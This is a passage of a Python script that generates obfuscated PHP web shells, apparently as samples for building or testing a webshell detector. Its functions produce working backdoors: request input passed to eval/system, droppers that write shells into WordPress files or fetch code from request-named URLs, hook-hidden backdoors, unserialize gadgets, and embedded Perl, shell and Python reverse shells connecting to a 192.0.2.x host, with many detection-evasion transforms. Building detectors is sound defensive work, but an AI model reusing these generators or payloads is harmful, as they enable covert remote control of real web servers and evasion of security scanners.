                    % (g.fn("set_error_handler"), p1, p2, sink, p2, g.fn("trigger_error"), x))
        else:
            fnm = g.fname()
            body = ("function %s(%s, %s)\n{\n    %s(%s);\n    return true;\n}\n%s(%s);\n%s(%s);"
                    % (fnm, p1, p2, sink, p2, g.fn("set_error_handler"), g.lit(fnm),
                       g.fn(r.choice(["trigger_error", "user_error"])), x))
    elif kind == "yaml":
        tag = "!" + g.ident()[:6]
        body = ("%s = array(%s => %s);\n%s(%s, 0, %s, %s);"
                % (v, g.lit(tag), cb, g.fn("yaml_parse"), x, w, v))
    elif kind == "header_cb":
        sink = g.fn(r.choice(["system", "passthru", "eval"]))
        body = ("%s = %s;\n%s(function () use (%s) { %s(%s); });"
                % (v, x, g.fn("header_register_callback"), v, sink, v))
    else:
        if r.random() < 0.5:
            body = ("%s = %s()[%s];\n%s = array_search(%s, %s);\necho %s[%s](%s);"
                    % (v, g.fn("get_defined_functions"), g.lit("internal"), w, cb, v, v, w, x))
        else:
            body = ("%s = %s();\n%s[%s][%d](%s);"
                    % (v, g.fn("get_defined_functions"), v, g.lit("internal"), r.randint(300, 1800), x))
    return php_file(g, body)


def t_callback_later(g):
    """Callees registered for PHP to call later, with arguments PHP supplies:
    SQL functions of SQLite3/PDO, a session save handler, the PHP functions
    an XSL stylesheet may call. The callee is folded or comes from input."""
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    from_input = r.random() < 0.3
    cb = g.src() if from_input else g.enc(name, allow=["concat", "rot13", "strrev", "chr", "base64", "hex",
                                                          "escapes", "xor", "implode", "replace"])
    g.transforms.add("callee:" + ("input" if from_input else "folded"))
    v, f = g.var(), g.var()
    kind = r.choice(["sqlite3", "pdo", "session", "xslt"])
    g.transforms.add("later:" + kind)
    fnm = g.lit(g.ident()[:5])
    if kind == "sqlite3":
        body = ("%s = new SQLite3(':memory:');\n%s->createFunction(%s, %s, 1);\n%s->query(\"SELECT %s('\" . %s . \"')\");"
                % (v, v, fnm, cb, v, fnm.strip("'\""), g.src()))
    elif kind == "pdo":
        body = ("%s = new PDO('sqlite::memory:');\n%s->sqliteCreateFunction(%s, %s, 1);\n%s->query('SELECT 1');"
                % (v, v, fnm, cb, v))
    elif kind == "session":
        body = ("%s = %s;\n%s(%s, %s, %s, %s, %s, %s);\n%s();"
                % (f, cb, g.fn("session_set_save_handler"), f, f, f, f, f, f, g.fn("session_start")))
    else:
        body = ("%s = new XSLTProcessor();\n%s->registerPHPFunctions(%s);" % (v, v, cb)
                if r.random() < 0.5 else
                "%s = new XSLTProcessor();\n%s->registerPHPFunctions(array(%s));" % (v, v, cb))
    return php_file(g, body)


def t_fold_more(g):
    """A callee name built by a while or do-while loop, written into a
    placeholder at string offsets, padded (str_pad), formatted (vsprintf),
    from chr() of ceil/floor, or the keys of a literal array."""
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    o, s, i, k = g.var(), g.var(), g.var(), g.var()
    form = r.choice(["while_xor", "do_shift", "while_array", "offsets", "str_pad", "vsprintf", "ceil", "keys",
                     "array_text"])
    g.transforms.add("fold:" + form)
    if form == "while_xor":
        key = "".join(r.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(r.randint(2, 5)))
        data = "".join("\\x%02x" % (ord(c) ^ ord(key[j % len(key)])) for j, c in enumerate(name))
        g.stmt("%s = \"%s\";" % (s, data))
        g.stmt("%s = %s;" % (k, php_sq(key)))
        build = ("%s = '';\n%s = 0;\nwhile (%s < strlen(%s)) {\n    %s .= %s[%s] ^ %s[%s %% strlen(%s)];\n    %s++;\n}"
                 % (o, i, i, s, o, s, i, k, i, k, i))
    elif form == "do_shift":
        n = r.randint(1, 6)
        g.stmt("%s = %s;" % (s, php_sq("".join(chr(ord(c) + n) for c in name))))
        build = ("%s = '';\n%s = 0;\ndo {\n    %s .= chr(ord(%s[%s]) - %d);\n} while (++%s < strlen(%s));"
                 % (o, i, o, s, i, n, i, s))
    elif form == "while_array":
        g.stmt("%s = array(%s);" % (s, ", ".join(php_sq(c) for c in reversed(name))))
        build = ("%s = '';\n%s = count(%s);\nwhile (%s > 0) {\n    %s--;\n    %s .= %s[%s];\n}"
                 % (o, i, s, i, i, o, s, i))
    elif form == "offsets":
        idx = list(range(len(name)))
        r.shuffle(idx)
        build = "%s = %s;\n" % (o, php_sq(r.choice(["_", "x", "."]) * len(name)))
        build += "\n".join("%s[%d] = %s;" % (o, j if r.random() < 0.7 else j - len(name), php_sq(name[j]))
                           for j in idx)
    elif form == "str_pad":
        cut = r.randint(1, len(name) - 1)
        if r.random() < 0.5:
            build = "%s = str_pad(%s, %d, %s);" % (o, php_sq(name[:cut]), len(name), php_sq(name[cut:]))
        else:
            build = "%s = str_pad(%s, %d, %s, STR_PAD_LEFT);" % (o, php_sq(name[cut:]), len(name), php_sq(name[:cut]))
    elif form == "vsprintf":
        parts = [name[j:j + 2] for j in range(0, len(name), 2)]
        build = "%s = vsprintf(%s, array(%s));" % (o, php_sq("%s" * len(parts)), ", ".join(php_sq(p) for p in parts))
    elif form == "ceil":
        fn = r.choice(["ceil", "floor"])
        c = ord(name[0])
        lit = "%d.%d" % (c - 1, r.randint(1, 9)) if fn == "ceil" else "%d.%d" % (c, r.randint(1, 9))
        build = "%s = chr(%s(%s)) . %s;" % (o, fn, lit, php_sq(name[1:]))
    elif form == "array_text":
        # "Array"[n] incremented to each letter of the name
        a = g.var()
        g.stmt("%s = %s;" % (a, r.choice(["[] . ''", "@\"\" . array()"])))
        parts = []
        for ch in name:
            if not ch.isalpha():
                parts.append(php_sq(ch))
                continue
            src_i, src_c = max(((j, c) for j, c in enumerate("Array") if c.lower() <= ch),
                               key=lambda t: t[1].lower())
            t = g.var()
            steps = ord(ch) - ord(src_c.lower()) if src_c.islower() else ord(ch) - ord("a")
            if src_c.isupper():
                g.stmt("%s = strtolower(%s[%d]);" % (t, a, src_i))
            else:
                g.stmt("%s = %s[%d];" % (t, a, src_i))
            for _ in range(steps):
                g.stmt("%s++;" % t)
            parts.append(t)
        build = "%s = %s;" % (o, " . ".join(parts))
    else:
        if r.random() < 0.5:
            build = ("%s = array_keys(array(%s => 1, %s => 2));\n%s = %s[0];"
                     % (k, php_sq(name), php_sq(g.ident()), o, k))
        else:
            build = "%s = array_flip(array(%s => %d));\n%s = %s[%d];" % (k, php_sq(name), 7, o, k, 7)
    body = "%s\n%s%s(%s);" % (build, "echo " if name in ("shell_exec", "exec") else g.at(), o, g.cast(g.src()))
    return php_file(g, body)


def t_cmd_wrapper(g):
    """A function that runs its parameter with whichever command function
    the host left enabled: function_exists/is_callable checks, a list
    walked, disable_functions read. Called with input, or not called."""
    r = g.rng
    fnm, c, f, d, out = g.fname(), g.var(), g.var(), g.var(), g.var()
    names = r.sample(["system", "shell_exec", "passthru", "exec", "popen"], r.randint(2, 4))
    check = r.choice(["function_exists", "is_callable"])
    form = r.choice(["chain", "list", "disabled"])
    g.transforms.add("wrap:" + form)

    def call(n):
        if n == "exec":
            return "exec(%s, %s);\n        return implode(\"\\n\", %s);" % (c, out, out)
        if n == "shell_exec":
            return "return shell_exec(%s);" % c
        if n == "popen":
            return "%s = popen(%s, 'r');\n        return fread(%s, 65536);" % (out, c, out)
        return "ob_start();\n        %s(%s);\n        return ob_get_clean();" % (n, c)
    if form == "chain":
        parts = []
        for j, n in enumerate(names):
            parts.append("%s (%s(%s)) {\n        %s\n    }" % ("if" if j == 0 else "elseif", g.fn(check), php_sq(n), call(n)))
        body = "function %s(%s)\n{\n    %s\n    return '';\n}\n" % (fnm, c, " ".join(parts))
    elif form == "list":
        body = ("function %s(%s)\n{\n    foreach (array(%s) as %s) {\n        if (%s(%s)) {\n"
                "            return %s(%s);\n        }\n    }\n    return false;\n}\n"
                % (fnm, c, ", ".join(php_sq(n) for n in names), f, g.fn(check), f, f, c))
    else:
        g.stmt("%s = array_map('trim', explode(',', ini_get('disable_functions')));" % d)
        parts = []
        for j, n in enumerate(names[:2]):
            parts.append("%s (!in_array(%s, %s)) {\n        %s\n    }" % ("if" if j == 0 else "elseif", php_sq(n), d, call(n)))
        body = "function %s(%s)\n{\n    global %s;\n    %s\n    return '';\n}\n" % (fnm, c, d, " ".join(parts))
    if r.random() < 0.6:
        body += "echo %s(%s);\n" % (fnm, g.src())
        g.transforms.add("wrap:called")
    return php_file(g, body)


def t_branch_default(g):
    """The command or code from the request, with a default set in a branch
    when it is empty: after the if, either value reaches the sink."""
    r = g.rng
    c = g.var()
    kind = r.choice(["cmd", "cmd", "code"])
    default = r.choice(["id", "ls -la", "uname -a", "whoami", "pwd"]) if kind == "cmd" else "phpinfo();"
    cond = r.choice(["!%s", "empty(%s)", "%s == ''", "strlen(%s) < 1", "!isset(%s)"]) % c
    g.transforms.add("default:" + cond.split("(")[0].replace(c, "$v").strip())
    g.stmt("%s = %s;" % (c, g.src()))
    if r.random() < 0.5:
        g.stmt("if (%s) {\n    %s = %s;\n}" % (cond, c, php_sq(default)))
    else:
        g.stmt("if (%s)\n    %s = %s;\nelse\n    echo '<pre>';" % (cond, c, php_sq(default)))
    if kind == "cmd":
        sink = r.choice(["system", "passthru", "shell_exec", "exec"])
        arg = r.choice(["%s", "\"%s 2>&1\"", "%s . ' 2>&1'"]) % c
        body = ("echo " if sink in ("shell_exec", "exec") else "") + "%s%s(%s);" % (g.at(), g.fn(sink), arg)
    else:
        body = "%s(%s);" % (g.fn(r.choice(["eval", "assert"])), c)
    return php_file(g, body)


def t_unknown_key(g):
    """A callee decrypted with a key the scanner cannot know (part of the
    file's own name, the server's name), or the request's headers taken
    from $_SERVER by position."""
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    f, k = g.var(), g.var()
    form = r.choice(["file_key", "server_key", "server_list"])
    g.transforms.add("key:" + form)
    if form == "file_key":
        key = r.choice(["substr(__FILE__, -5, -4)", "basename(__FILE__, '.php')", "md5(__FILE__)"])
        g.stmt("%s = %s;" % (k, key))
        body = "%s = %s ^ %s;\n%s%s(%s);" % (f, g.fn("base64_decode") + "(%s)" % php_sq(b64(name.encode())), k,
                                             g.at(), f, g.src())
    elif form == "server_key":
        g.stmt("%s = $_SERVER[%s];" % (k, php_sq(r.choice(["SERVER_NAME", "DOCUMENT_ROOT", "SERVER_ADDR"]))))
        body = "%s = %s(%s(%s));\n%s%s(%s);" % (f, g.fn("str_rot13"), g.fn("base64_decode"), k, g.at(), f, g.src())
    else:
        n = r.randint(2, 30)
        fn = r.choice(["array_values", "array_slice"])
        arr = "%s($_SERVER)" % fn if fn == "array_values" else "array_slice($_SERVER, %d)" % n
        sink = r.choice(["system", "passthru", "eval", "assert"])
        body = "%s = %s;\n%s(%s[%d]);" % (k, arr, g.fn(sink), k, r.randint(0, 9))
    return php_file(g, body)


def t_script_drop(g):
    """The request's code written into a program's source (C, Perl, Python,
    shell, Java), then compiled or interpreted by a command: a shell in
    another language."""
    r = g.rng
    lang = r.choice(["c", "pl", "py", "sh", "java", "rb"])
    g.transforms.add("drop:" + lang)
    path, data, cmd, out = g.var(), g.var(), g.var(), g.var()
    where = r.choice(["/tmp/", "/dev/shm/.", "sys_get_temp_dir() . '/", "__DIR__ . '/"])
    stem = r.choice(["md5(uniqid())", "mt_rand()", "time()", php_sq(g.ident()[:6])])
    if where.endswith("'/"):
        g.stmt("%s = %s' . %s . '.%s';" % (path, where, stem, lang))
    else:
        g.stmt("%s = '%s' . %s . '.%s';" % (path, where, stem, lang))
    src = g.src()
    if r.random() < 0.3:
        src = "%s(%s)" % (g.fn("base64_decode"), src)
    g.stmt("%s = %s;" % (data, src))
    if r.random() < 0.5:
        write = "%s(%s, %s);" % (g.fn("file_put_contents"), path, data)
    else:
        h = g.var()
        write = "%s = %s(%s, 'w');\n%s(%s, %s);\nfclose(%s);" % (h, g.fn("fopen"), path, g.fn(r.choice(["fwrite", "fputs"])), h, data, h)
    run = {"c": "'gcc ' . %s . ' -o /tmp/.b && /tmp/.b'" % path, "pl": "'perl ' . %s" % path,
           "py": "'python3 ' . %s" % path, "sh": "'/bin/sh ' . %s" % path,
           "java": "'java ' . %s" % path, "rb": "'nohup ruby ' . %s . ' &'" % path}[lang]
    sink = r.choice(["system", "passthru", "shell_exec", "exec"])
    body = "%s\n%s = %s;\n%s%s(%s . ' 2>&1');" % (write, cmd, run, "echo " if sink in ("shell_exec", "exec") else "",
                                                 g.fn(sink), cmd)
    return php_file(g, body)


def t_decoded_drop(g):
    """A program carried encoded in the PHP file (a Perl or shell back door),
    written out to a source file and started: nothing from the request."""
    r = g.rng
    h, p = "192.0.2.%d" % r.randint(1, 254), r.randint(1025, 65000)
    prog = r.choice([
        ("pl", "use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n"
               "connect(S, sockaddr_in(%d, inet_aton('%s')));\nopen(STDIN, '>&S'); open(STDOUT, '>&S');\n"
               "exec('/bin/sh -i');\n" % (p, h), "perl"),
        ("sh", "#!/bin/sh\nwhile true; do nc %s %d -e /bin/sh; sleep 30; done\n" % (h, p), "sh"),
        ("py", "import socket,os\ns=socket.create_connection(('%s',%d))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
               "os.execv('/bin/sh',['sh'])\n" % (h, p), "python3"),
    ])
    ext, code, run = prog
    g.transforms.add("drop:" + ext)
    v, f = g.var(), g.var()
    g.stmt("%s = %s;" % (v, php_sq(b64(code.encode()))))
    name = r.choice(["/tmp/.%s." % g.ident()[:4], "./%s." % g.ident()[:5], "/dev/shm/."])
    if r.random() < 0.5:
        write = "%s(%s, %s(%s));" % (g.fn("file_put_contents"), php_sq(name + ext), g.fn("base64_decode"), v)
    else:
        write = ("%s = fopen(%s, 'w');\nfwrite(%s, %s(%s));\nfclose(%s);"
                 % (f, php_sq(name + ext), f, g.fn("base64_decode"), v, f))
    sink = r.choice(["system", "shell_exec", "exec", "passthru"])
    body = "%s\n%s(%s);" % (write, g.fn(sink), php_sq("nohup %s %s%s > /dev/null 2>&1 &" % (run, name, ext)))
    return php_file(g, body)


def t_split_payload(g):
    """A long payload (a whole shell) encoded and split into hundreds of
    literal pieces joined with `.`, then decoded and evaluated (or given to
    create_function): the pieces must be joined whole to be judged."""
    r = g.rng
    lines = []
    for j in range(r.randint(1500, 3000)):
        lines.append("$%s%d = %s;" % (g.ident()[:5], j, php_sq(g.ident() * r.randint(1, 4))))
    core = r.choice(["eval($_POST[%s]);", "system($_REQUEST[%s]);", "echo shell_exec($_COOKIE[%s]);"]) % php_sq(g.key())
    lines.insert(r.randrange(len(lines)), core)
    code = "\n".join(lines)
    enc = b64(code.encode())
    step = r.choice([60, 64, 68, 76])
    pieces = [enc[j:j + step] for j in range(0, len(enc), step)]
    v = g.var()
    g.transforms.add("pieces:%d" % (len(pieces) // 100 * 100))
    body = "%s =\n    %s;\n" % (v, " .\n    ".join(php_sq(x) for x in pieces))
    if r.random() < 0.5:
        body += "%s(%s(%s));" % (g.fn("eval"), g.fn("base64_decode"), v)
    else:
        f = g.var()
        body += "%s = %s('', %s(%s));\n%s();" % (f, g.fn("create_function"), g.fn("base64_decode"), v, f)
    return php_file(g, body)


def literal_shell(g):
    """A one-line web shell as PHP source text."""
    return "<?php " + g.rng.choice(BACKDOOR_PAYLOADS).format(k=g.key()) + " ?>"


def literal_expr(g, code):
    """code as a PHP string expression: a literal, pieces joined, a heredoc
    or a nowdoc (the bodies are copied verbatim by mangle())."""
    r = g.rng
    form = r.randrange(4)
    if form == 0:
        return php_sq(code)
    if form == 1:
        cut = r.randrange(6, len(code) - 4)
        return "%s . %s" % (php_sq(code[:cut]), php_sq(code[cut:]))
    label = r.choice(["EOT", "CODE", "PHP", "SRC"])
    if form == 2:
        body = code.replace("\\", "\\\\").replace("$", "\\$")
        return "<<<%s\n%s\n%s\n" % (label, verbatim(body), label)
    return "<<<'%s'\n%s\n%s\n" % (label, verbatim(code), label)


def t_literal_dropper(g):
    """Writes a web shell held in a literal (plain, joined, heredoc, nowdoc)
    to a .php file: file_put_contents, fopen+fwrite/fputs, copy of data:."""
    r = g.rng
    shell = literal_shell(g)
    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.ident().strip("_"),
                       "dirname(__FILE__) . '/images/.thumb.php'", "'/tmp/.%s.php'" % g.ident().strip("_")])
    c = g.var()
    g.stmt("%s = %s;" % (c, literal_expr(g, shell)))
    form = r.randrange(4)
    if form == 0:
        body = "%s%s(%s, %s);\n" % (g.at(), g.fn("file_put_contents"), target, c)
    elif form == 1:
        h = g.var()
        body = "%s = %s(%s, 'w');\n%s(%s, %s);\n%s(%s);\n" % (
            h, g.fn("fopen"), target, g.fn(r.choice(["fwrite", "fputs"])), h, c, g.fn("fclose"), h)
    elif form == 2:
        body = "%s(%s, %s);\n" % (g.fn("copy"), php_sq("data://text/plain;base64," + b64(shell)), target)
    else:
        body = "if (!file_exists(%s)) {\n    %s(%s, %s);\n}\n" % (target, g.fn("file_put_contents"), target, c)
    if r.random() < 0.5:
        body += "echo 'ok';\n"
    return php_file(g, body)


def t_literal_runner(g):
    """A shell whose code sits in a literal and runs by a path a byte
    pattern or a token check may not follow: a callee joined from pieces,
    create_function, an include of a temp file it wrote, a call through an
    array or a variable-variable, preg_replace /e with a built name."""
    r = g.rng
    k = g.key()
    code = r.choice(["eval($_POST['%s']);" % k, "system($_REQUEST['%s']);" % k,
                     "passthru($_GET['%s']);" % k])
    c = g.var()
    g.stmt("%s = %s;" % (c, php_sq(code)))
    form = r.randrange(6)
    if form == 0:
        f = g.var()
        body = "%s = 'as' . 'sert';\n%s(%s);\n" % (f, f, c)
    elif form == 1:
        f = g.var()
        body = "%s = %s('', %s);\n%s();\n" % (f, g.fn("create_function"), c, f)
    elif form == 2:
        t = g.var()
        body = "%s = %s(%s(), 'x');\n%s(%s, '<?php ' . %s);\ninclude %s;\n" % (
            t, g.fn("tempnam"), g.fn("sys_get_temp_dir"), g.fn("file_put_contents"), t, c, t)
    elif form == 3:
        cls = g.fname()
        g.stmt("class %s { public function run($c) { return assert($c); } }" % cls)
        body = "[new %s, 'run'](%s);\n" % (cls, c)
    elif form == 4:
        n = g.var()
        body = "%s = 'as' . 'sert';\n$%s(%s);\n" % (n, n, c)
    else:
        f = g.var()
        body = "%s = 'preg_' . 'replace';\n%s('/.*/e', %s, '');\n" % (f, f, c)
    return php_file(g, body)


# ---------------------------------------------------------------------------
# webshell techniques, round 3 (branch webshell3): reflection, goto-shuffled
# code, droppers that fetch code named by the request, backdoors in a
# framework's hooks, gadgets reached from unserialize(). Written from the
# technique; no corpus or held-out sample was read for them.


def ws3_sink(g, arg):
    """A statement that runs arg: code or a command."""
    r = g.rng
    s = r.choice(["eval", "assert", "system", "passthru", "shell_exec", "exec"])
    g.transforms.add("sink:" + s)
    if s in ("shell_exec", "exec"):
        return "echo %s(%s);" % (g.fn(s), arg)
    return "%s%s(%s);" % (g.at(), g.fn(s), arg)


def t_reflection(g):
    """Code run through the Reflection API: a method invoked by reflection,
    a class instantiated by it (its constructor runs the input), a function
    object invoked."""
    r = g.rng
    cls, m, p = g.fname().capitalize(), g.fname(), g.var()
    x = g.src()
    form = r.choice(["method_invoke", "method_string", "method_args", "class_new", "class_new_args",
                     "get_method", "no_ctor", "function_args"])
    g.transforms.add("refl:" + form)
    meth = "    public %sfunction %s(%s) {\n        %s\n    }\n" % (
        "static " if form in ("method_string", "get_method") else "", m, p, ws3_sink(g, p))
    if form == "method_invoke":
        o = g.var()
        body = ("class %s {\n%s}\n%s = new %s();\n$r = new ReflectionMethod(%s, %s);\n$r->invoke(%s, %s);"
                % (cls, meth, o, cls, g.lit(cls), g.lit(m), o, x))
    elif form == "method_string":
        body = ("class %s {\n%s}\n$r = new ReflectionMethod(%s);\n$r->invoke(null, %s);"
                % (cls, meth, g.lit(cls + "::" + m), x))
    elif form == "method_args":
        body = ("class %s {\n%s}\n$r = new %s(new %s(), %s);\n$r->%s(new %s(), array(%s));"
                % (cls, meth, "ReflectionMethod", cls, g.enc(m, allow=["plain", "concat", "strrev"]),
                   g.fn("invokeArgs"), cls, x))
    elif form in ("class_new", "class_new_args"):
        ctor = "    function __construct(%s) {\n        %s\n    }\n" % (p, ws3_sink(g, p))
        call = "newInstance(%s)" % x if form == "class_new" else "newInstanceArgs(array(%s))" % x
        body = ("class %s {\n%s}\n$c = new ReflectionClass(%s);\n$c->%s;"
                % (cls, ctor, g.enc(cls, allow=["plain", "concat"]), call))
    elif form == "get_method":
        body = ("class %s {\n%s}\n(new ReflectionClass(%s))->getMethod(%s)->invoke(null, %s);"
                % (cls, meth, g.lit(cls), g.lit(m), x))
    elif form == "no_ctor":
        body = ("class %s {\n    function __construct() { exit; }\n%s}\n"
                "$o = (new ReflectionClass(%s))->newInstanceWithoutConstructor();\n$o->%s(%s);"
                % (cls, meth, g.lit(cls), m, x))
    else:
        name = r.choice(EXEC_NAMES + CODE_NAMES)
        f = g.var()
        body = "%s = new ReflectionFunction(%s);\n%s->invokeArgs(array(%s));" % (f, g.enc(name), f, x)
    return php_file(g, body)


def t_goto_shuffle(g):
    """The statements of a small shell cut into pieces, each behind a label,
    chained by gotos in an order that is not the order of the text."""
    r = g.rng
    v, w = g.var(), g.var()
    steps = ["%s = %s;" % (v, g.src())]
    if r.random() < 0.5:
        steps.append("%s = %s(%s);" % (w, g.fn(r.choice(["trim", "stripslashes", "base64_decode"])), v))
    else:
        steps.append("%s = %s;" % (w, v))
    steps.append(ws3_sink(g, w))
    if r.random() < 0.5:
        steps.insert(0, "%s = %s;" % (g.var(), g.lit(g.ident())))
    labels = ["%s%d" % (g.ident().lstrip("_") or "L", j) for j in range(len(steps) + 1)]
    chunks = ["%s:\n%s\ngoto %s;" % (labels[j], steps[j], labels[j + 1]) for j in range(len(steps))]
    order = list(range(len(chunks)))
    while order == sorted(order):
        r.shuffle(order)
    text = "goto %s;\n" % labels[0] + "\n".join(chunks[j] for j in order) + "\n%s:\n" % labels[-1]
    form = r.choice(["file", "function", "block", "cond"])
    g.transforms.add("goto:" + form)
    if form == "cond":  # the entry is a conditional goto, the fall-through ends the script
        text = "if (%s) {\n    goto %s;\n}\nexit;\n" % (r.choice(["1", "true", "!0", "PHP_VERSION"]), labels[0]) + \
            "\n".join(chunks[j] for j in order) + "\n%s:\n" % labels[-1]
    if form == "function":
        f = g.fname()
        text = "function %s() {\n%s}\n%s();" % (f, text, f)
    elif form == "block":
        text = "if (%s) {\n%s}" % (r.choice(["1", "true", "!0"]), text)
    return php_file(g, text)


def t_dropper_fetch(g):
    """A dropper whose URL or code the request names (a header, a cookie, a
    posted field), written to a script the server runs."""
    r = g.rng
    kind = r.choice(["header", "COOKIE", "POST", "GET", "REQUEST"])
    u = g.src(kind)
    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.fname(),
                       "$_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-%s.php'" % g.fname(),
                       "dirname(__FILE__) . '/images/.thumb.phtml'"])
    form = r.choice(["fpc_fgc", "copy", "curl_fwrite", "fopen_read", "raw_code", "fwrite_b64", "stream_copy"])
    g.transforms.add("drop:" + form)
    d, h = g.var(), g.var()
    if form == "fpc_fgc":
        body = "%s = %s(%s);\n%s(%s, %s);" % (d, g.fn("file_get_contents"), u, g.fn("file_put_contents"), target, d)
    elif form == "copy":
        body = "%s%s(%s, %s);" % (g.at(), g.fn("copy"), u, target)
    elif form == "curl_fwrite":
        c = g.var()
        body = ("%s = curl_init();\ncurl_setopt(%s, CURLOPT_URL, %s);\ncurl_setopt(%s, CURLOPT_RETURNTRANSFER, 1);\n"
                "%s = curl_exec(%s);\n%s = %s(%s, 'w');\n%s(%s, %s);\nfclose(%s);"
                % (c, c, u, c, d, c, h, g.fn("fopen"), target, g.fn(r.choice(["fwrite", "fputs"])), h, d, h))
    elif form == "fopen_read":
        body = ("%s = %s(%s, 'r');\n%s = stream_get_contents(%s);\n%s(%s, %s);"
                % (h, g.fn("fopen"), u, d, h, g.fn("file_put_contents"), target, d))
    elif form == "raw_code":
        body = "%s(%s, %s);" % (g.fn("file_put_contents"), target, u)
    elif form == "fwrite_b64":
        body = "%s = %s(%s, 'w+');\n%s(%s, %s(%s));" % (h, g.fn("fopen"), target, g.fn("fwrite"), h,
                                                        g.fn("base64_decode"), u)
    else:
        body = "%s(%s(%s, 'r'), %s(%s, 'w'));" % (g.fn("stream_copy_to_stream"), g.fn("fopen"), u, g.fn("fopen"), target)
    if r.random() < 0.5:
        body += "\necho 'ok';"
    return php_file(g, body)


WP_HOOKS = ["init", "wp_head", "wp_footer", "admin_init", "template_redirect", "wp_loaded", "plugins_loaded",
            "the_content", "wp_ajax_nopriv_sync", "shutdown"]


def t_wp_hook_backdoor(g):
    """A backdoor hung on a framework hook (add_action / add_filter /
    add_shortcode / register_activation_hook): the framework calls it, so
    nothing in the file does."""
    r = g.rng
    reg = r.choice(["add_action", "add_action", "add_filter", "add_shortcode", "register_activation_hook"])
    hook = r.choice(WP_HOOKS) if reg != "register_activation_hook" else "__FILE__"
    hook_lit = hook if hook == "__FILE__" else g.lit(hook)
    x = g.src(r.choice(["POST", "COOKIE", "REQUEST", "header", "GET"]))
    v = g.var()
    inner = "%s = %s;\n    if (%s) {\n        %s\n    }" % (v, x, v, ws3_sink(g, v))
    ret = "\n    return $content;" if reg == "add_filter" else ""
    arg = "$content" if reg == "add_filter" else ""
    form = r.choice(["closure", "closure", "named_later", "static_method", "this_method", "arrow"])
    g.transforms.add("hook:" + form)
    if form == "closure":
        body = "%s(%s, function (%s) {\n    %s%s\n}%s);" % (
            g.fn(reg), hook_lit, arg, inner, ret, ", %d" % r.randint(1, 99) if r.random() < 0.4 else "")
    elif form == "named_later":
        f = g.fname()
        body = "%s(%s, %s);\nfunction %s(%s) {\n    %s%s\n}" % (g.fn(reg), hook_lit, g.lit(f), f, arg, inner, ret)
    elif form == "static_method":
        cls, m = g.fname().capitalize(), g.fname()
        body = ("class %s {\n    public static function %s(%s) {\n        %s%s\n    }\n}\n%s(%s, array(%s, %s));"
                % (cls, m, arg, inner, ret, g.fn(reg), hook_lit, g.lit(cls), g.lit(m)))
    elif form == "this_method":
        cls, m = g.fname().capitalize(), g.fname()
        body = ("class %s {\n    function __construct() {\n        %s(%s, array($this, %s));\n    }\n"
                "    function %s(%s) {\n        %s%s\n    }\n}\nnew %s();"
                % (cls, g.fn(reg), hook_lit, g.lit(m), m, arg, inner, ret, cls))
    else:
        body = "%s(%s, fn() => %s);" % (g.fn(reg), hook_lit, r.choice(["eval", "system", "passthru", "assert"]) + "(" + x + ")")
    if r.random() < 0.5:
        body = ("/*\nPlugin Name: %s\nVersion: %d.%d\n*/\n" % (g.fname().capitalize(), r.randint(1, 4), r.randint(0, 9))
                + body)
    return php_file(g, body)


def t_unserialize_gadget(g):
    """An object-injection gadget: a class whose magic method runs what its
    properties hold, and an unserialize() of input to build it."""
    r = g.rng
    cls = g.fname().capitalize()
    magic = r.choice(["__wakeup", "__destruct", "__toString", "__call", "__get"])
    g.transforms.add("magic:" + magic)
    pa, pb = g.ident().lstrip("_") or "a", g.ident().lstrip("_") or "b"
    form = r.randrange(4)
    if form == 0:
        run = ws3_sink(g, "$this->%s" % pa)
    elif form == 1:
        run = "call_user_func($this->%s, $this->%s);" % (pa, pb)
    elif form == 2:
        run = "$f = $this->%s;\n        $f($this->%s);" % (pa, pb)
    else:
        run = "array_map($this->%s, array($this->%s));" % (pa, pb)
    args = {"__call": "$n, $a", "__get": "$n"}.get(magic, "")
    ret = "\n        return '';" if magic == "__toString" else ""
    body = "class %s {\n    public $%s;\n    public $%s;\n    function %s(%s) {\n        %s%s\n    }\n}\n" % (
        cls, pa, pb, magic, args, run, ret)
    data = g.src()
    if r.random() < 0.5:
        data = "%s(%s)" % (g.fn(r.choice(["base64_decode", "urldecode", "stripslashes"])), data)
    o = g.var()
    body += "%s = %s(%s);\n" % (o, g.fn("unserialize"), data)
    if magic == "__toString":
        body += "echo %s;\n" % o
    elif magic == "__call":
        body += "%s->%s();\n" % (o, g.fname())
    elif magic == "__get":
        body += "echo %s->%s;\n" % (o, g.fname())
    return php_file(g, body)


def t_magic_more(g):
    """The input reaches a magic method PHP calls on its own: __call and
    __callStatic (a method the class lacks), __set (a property assigned),
    Serializable::unserialize and __unserialize (the data unserialize()
    was given), __invoke (the object as a callback), __get."""
    r = g.rng
    cls, m = g.fname().capitalize(), g.fname()
    x = g.src()
    form = r.choice(["call", "callstatic", "set", "serializable", "unserialize", "invoke", "get"])
    g.transforms.add("magic2:" + form)
    o = g.var()
    if form == "call":
        body = ("class %s {\n    public function __call($n, $a) {\n        %s\n    }\n}\n%s = new %s();\n%s->%s(%s);"
                % (cls, ws3_sink(g, "$a[0]"), o, cls, o, m, x))
    elif form == "callstatic":
        body = ("class %s {\n    public static function __callStatic($n, $a) {\n        %s\n    }\n}\n%s::%s(%s);"
                % (cls, ws3_sink(g, "$a[0]"), cls, m, x))
    elif form == "set":
        body = ("class %s {\n    function __set($k, $v) {\n        %s\n    }\n}\n%s = new %s;\n%s->%s = %s;"
                % (cls, ws3_sink(g, "$v"), o, cls, o, m, x))
    elif form == "serializable":
        body = ("class %s implements Serializable {\n    function serialize() { return ''; }\n"
                "    function unserialize($d) {\n        %s\n    }\n}\n%s(%s);"
                % (cls, ws3_sink(g, "$d"), g.fn("unserialize"), x))
    elif form == "unserialize":
        body = ("class %s {\n    function __unserialize(array $d) {\n        %s\n    }\n}\n%s(%s(%s));"
                % (cls, ws3_sink(g, "$d[%s]" % g.lit(m)), g.fn("unserialize"), g.fn("base64_decode"), x))
    elif form == "invoke":
        body = ("class %s {\n    function __invoke($c) {\n        %s\n    }\n}\n%s(new %s(), array(%s));"
